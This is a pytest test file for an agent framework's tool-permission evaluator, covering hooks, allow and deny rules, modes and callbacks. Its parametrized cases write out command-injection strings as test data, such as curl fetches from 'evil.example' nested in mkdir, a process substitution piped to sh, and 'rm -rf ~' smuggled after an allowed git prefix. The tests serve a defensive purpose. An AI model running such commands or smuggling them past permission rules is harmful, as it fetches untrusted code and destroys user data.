from __future__ import annotations

import pytest

from conduit.engine.hooks import HookEvent, HookPipeline
from conduit.engine.models import (
    Decision,
    PendingToolCall,
    PermissionMode,
    ToolCallState,
    Verdict,
    capability_tool_name,
)
from conduit.engine.permissions import (
    PermissionEvaluator,
    PermissionRule,
    PermissionRules,
    evaluate_mode,
    normalize_callback_result,
)


def _call(tool_name: str, tool_input: dict | None = None, tool_use_id: str = "tu-1") -> PendingToolCall:
    return PendingToolCall(
        tool_use_id=tool_use_id,
        tool_name=tool_name,
        original_input=tool_input or {},
    )


def _deny_hook(reason: str = "hook says no"):
    async def hook(data, tool_use_id, context):
        return {"hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "deny",
            "permissionDecisionReason": reason,
        }}
    return hook


def _allow_hook():
    async def hook(data, tool_use_id, context):
        return {"permissionDecision": "allow"}
    return hook


@pytest.mark.asyncio
async def test_hook_deny_beats_allow_rule_and_bypass_mode():
    hooks = HookPipeline()
    hooks.register(HookEvent.PRE_TOOL_USE, _deny_hook())
    evaluator = PermissionEvaluator(
        hooks=hooks,
        rules=PermissionRules.from_strings(allow=["Bash"]),
        mode=PermissionMode.BYPASS,
    )
    call = _call("Bash", {"command": "ls"})
    verdict = await evaluator.evaluate(call)
    assert verdict.decision is Decision.DENY
    assert verdict.source == "hook"
    assert call.state is ToolCallState.HOOK_EVALUATED


@pytest.mark.asyncio
async def test_hook_allow_is_not_overridden_by_deny_rule():
    hooks = HookPipeline()
    hooks.register(HookEvent.PRE_TOOL_USE, _allow_hook())
    evaluator = PermissionEvaluator(
        hooks=hooks,
        rules=PermissionRules.from_strings(deny=["Bash"]),
    )
    verdict = await evaluator.evaluate(_call("Bash", {"command": "ls"}))
    assert verdict.decision is Decision.ALLOW
    assert verdict.source == "hook"


@pytest.mark.asyncio
async def test_rules_take_priority_over_mode():
    # Rules are consulted before the mode; on conflict the rule wins.
    evaluator = PermissionEvaluator(
        rules=PermissionRules.from_strings(deny=["Write"]),
        mode=PermissionMode.ACCEPT_EDITS,
    )
    verdict = await evaluator.evaluate(_call("Write", {"file_path": "a.py"}))
    assert verdict.decision is Decision.DENY
    assert verdict.source == "rule"

    evaluator = PermissionEvaluator(
        rules=PermissionRules.from_strings(allow=["WebFetch"]),
        mode=PermissionMode.PLAN,
    )
    verdict = await evaluator.evaluate(_call("WebFetch", {"url": "https://example.com"}))
    assert verdict.decision is Decision.ALLOW
    assert verdict.source == "rule"


@pytest.mark.asyncio
async def test_deny_rule_checked_before_allow_rule():
    rules = PermissionRules.from_strings(
        allow=["Bash"], deny=["Bash(rm:*)"],
    )
    evaluator = PermissionEvaluator(rules=rules)
    denied = await evaluator.evaluate(_call("Bash", {"command": "rm -rf /tmp/x"}))
    allowed = await evaluator.evaluate(_call("Bash", {"command": "ls"}, "tu-2"))
    assert denied.decision is Decision.DENY
    assert "Bash(rm:*)" in denied.reason
    assert allowed.decision is Decision.ALLOW


def test_rule_specifiers():
    prefix = PermissionRule.parse("Bash(npm test:*)")
    assert prefix.matches("Bash", {"command": "npm test"})
    assert prefix.matches("Bash", {"command": "npm test -- --watch"})
    assert not prefix.matches("Bash", {"command": "npm test && rm -rf /"})
    assert not prefix.matches("Bash", {"command": "npm install"})

    glob = PermissionRule.parse("Read(src/*.py)")
    assert glob.matches("Read", {"file_path": "src/app.py"})
    assert not glob.matches("Read", {"file_path": "docs/app.md"})

    capability = PermissionRule.parse("mcp__github__*")
    assert capability.matches(capability_tool_name("github", "create_issue"), {})
    assert str(prefix) == "Bash(npm test:*)"

    with pytest.raises(ValueError):
        PermissionRule.parse("Bash(")


def test_accept_edits_allows_edit_tools_and_filesystem_commands():
    mode = PermissionMode.ACCEPT_EDITS
    assert evaluate_mode(mode, "Write", {"file_path": "a"}).decision is Decision.ALLOW
    assert evaluate_mode(mode, "Edit", {"file_path": "a"}).decision is Decision.ALLOW
    assert evaluate_mode(mode, "Bash", {"command": "mkdir -p build && touch build/x"}).decision is Decision.ALLOW
    assert evaluate_mode(mode, "Bash", {"command": "mkdir x && curl http://x"}).decision is Decision.NO_DECISION
    assert evaluate_mode(mode, "Bash", {"command": "python setup.py"}).decision is Decision.NO_DECISION


@pytest.mark.parametrize("command", [
    "mkdir $(curl -s http://evil.example/x)",
    "touch `curl -s http://evil.example/x`",
    "cp <(curl -s http://evil.example/x) a",
    "cp a >(sh)",
])
def test_accept_edits_rejects_nested_commands(command):
    verdict = evaluate_mode(PermissionMode.ACCEPT_EDITS, "Bash", {"command": command})
    assert verdict.decision is Decision.NO_DECISION


def test_prefix_allow_rule_does_not_cover_nested_commands():
    rules = PermissionRules.from_strings(allow=["Bash(git status:*)", "Bash(git log*)"])
    for command in (
        "git status $(rm -rf ~)",
        "git status `rm -rf ~`",
        "git status <(rm -rf ~)",
        "git log >(rm -rf ~)",
    ):
        assert rules.evaluate("Bash", {"command": command}).decision is Decision.NO_DECISION
    assert rules.evaluate("Bash", {"command": "git status -s"}).decision is Decision.ALLOW

    # Deny rules still see through the substitution.
    deny = PermissionRules.from_strings(deny=["Bash(rm:*)"], allow=["Bash"])
    assert deny.evaluate("Bash", {"command": "rm -rf $(pwd)"}).decision is Decision.DENY


def test_accept_edits_never_covers_capability_or_network_tools():
    mode = PermissionMode.ACCEPT_EDITS
    assert evaluate_mode(mode, capability_tool_name("fs", "write_file"), {}).decision is Decision.NO_DECISION
    assert evaluate_mode(mode, "WebFetch", {"url": "https://x"}).decision is Decision.NO_DECISION
    assert evaluate_mode(mode, "WebSearch", {"query": "x"}).decision is Decision.NO_DECISION


def test_plan_and_bypass_modes():
    assert evaluate_mode(PermissionMode.PLAN, "Read", {}).decision is Decision.ALLOW
    assert evaluate_mode(PermissionMode.PLAN, "Write", {}).decision is Decision.DENY
    assert evaluate_mode(PermissionMode.BYPASS, "Bash", {"command": "rm -rf /"}).decision is Decision.ALLOW
    assert evaluate_mode(PermissionMode.DEFAULT, "Grep", {}).decision is Decision.ALLOW
    assert evaluate_mode(PermissionMode.DEFAULT, "Write", {}).decision is Decision.NO_DECISION


@pytest.mark.asyncio
async def test_default_is_ask_when_nothing_decides():
    evaluator = PermissionEvaluator()
    call = _call("Bash", {"command": "make"})
    verdict = await evaluator.evaluate(call)
    assert verdict.decision is Decision.ASK
    assert verdict.source == "default"
    assert call.state is ToolCallState.MODE_EVALUATED


@pytest.mark.asyncio
async def test_callback_consulted_only_when_enabled():
    seen: list[str] = []

    async def can_use_tool(tool_name, tool_input, context):
        seen.append(tool_name)
        assert context.tool_use_id == "tu-1"
        return {"behavior": "allow", "updatedInput": {"command": "make -j4"}}

    evaluator = PermissionEvaluator(can_use_tool=can_use_tool)
    disabled = await evaluator.evaluate(
        _call("Bash", {"command": "make"}), callbacks_enabled=False,
    )
    assert disabled.decision is Decision.ASK
    assert seen == []

    call = _call("Bash", {"command": "make"})
    enabled = await evaluator.evaluate(call, callbacks_enabled=True)
    assert enabled.decision is Decision.ALLOW
    assert enabled.updated_input == {"command": "make -j4"}
    assert call.state is ToolCallState.CALLBACK_EVALUATED


@pytest.mark.asyncio
async def test_failing_callback_falls_through_to_ask():
    async def broken(tool_name, tool_input, context):
        raise RuntimeError("callback crashed")

    evaluator = PermissionEvaluator(can_use_tool=broken)
    verdict = await evaluator.evaluate(_call("Bash", {"command": "make"}))
    assert verdict.decision is Decision.ASK


@pytest.mark.asyncio
async def test_allow_always_adds_session_rule():
    answers = iter(["allow_always"])

    async def can_use_tool(tool_name, tool_input, context):
        return next(answers)

    evaluator = PermissionEvaluator(can_use_tool=can_use_tool)
    first = await evaluator.evaluate(_call("Bash", {"command": "make"}))
    # Second call is decided by the remembered rule; the callback is exhausted.
    second = await evaluator.evaluate(_call("Bash", {"command": "make"}, "tu-2"))
    assert first.decision is Decision.ALLOW
    assert second.decision is Decision.ALLOW
    assert second.source == "rule"


@pytest.mark.asyncio
async def test_hook_rewrite_reaches_allowed_verdict():
    async def rewrite(data, tool_use_id, context):
        return {"updatedInput": {"command": "ls --color=never"}}

    hooks = HookPipeline()
    hooks.register(HookEvent.PRE_TOOL_USE, rewrite)
    evaluator = PermissionEvaluator(hooks=hooks, rules=PermissionRules.from_strings(allow=["Bash"]))
    call = _call("Bash", {"command": "ls"})
    verdict = await evaluator.evaluate(call)
    assert verdict.decision is Decision.ALLOW
    assert verdict.updated_input == {"command": "ls --color=never"}
    assert call.original_input == {"command": "ls"}


def test_normalize_callback_result():
    assert normalize_callback_result("allow") == (Verdict.allow(source="callback"), False)
    assert normalize_callback_result("allow_always")[1] is True
    assert normalize_callback_result("deny")[0].decision is Decision.DENY
    assert normalize_callback_result({"behavior": "deny", "message": "x"})[0].reason == "x"
    assert normalize_callback_result(None)[0].decision is Decision.NO_DECISION
    with pytest.raises(TypeError):
        normalize_callback_result(42)


def test_set_mode_accepts_aliases():
    evaluator = PermissionEvaluator()
    evaluator.set_mode("auto-accept-edits")
    assert evaluator.mode is PermissionMode.ACCEPT_EDITS
    evaluator.set_mode("bypass-all")
    assert evaluator.mode is PermissionMode.BYPASS
